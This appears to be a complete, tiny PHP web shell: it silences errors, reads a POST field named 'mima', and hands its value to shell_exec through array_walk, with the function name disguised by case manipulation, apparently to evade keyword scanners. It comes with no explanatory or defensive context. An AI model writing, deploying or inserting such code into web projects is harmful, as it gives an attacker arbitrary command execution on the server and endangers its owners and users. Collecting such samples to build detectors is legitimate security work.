<?php
@ini_set('display_errors', 0);
$tmp = filter_input(INPUT_POST, 'mima');
$arr = array($tmp);
array_walk($arr, ucfirst(strtolower('SHELL_EXEC')));
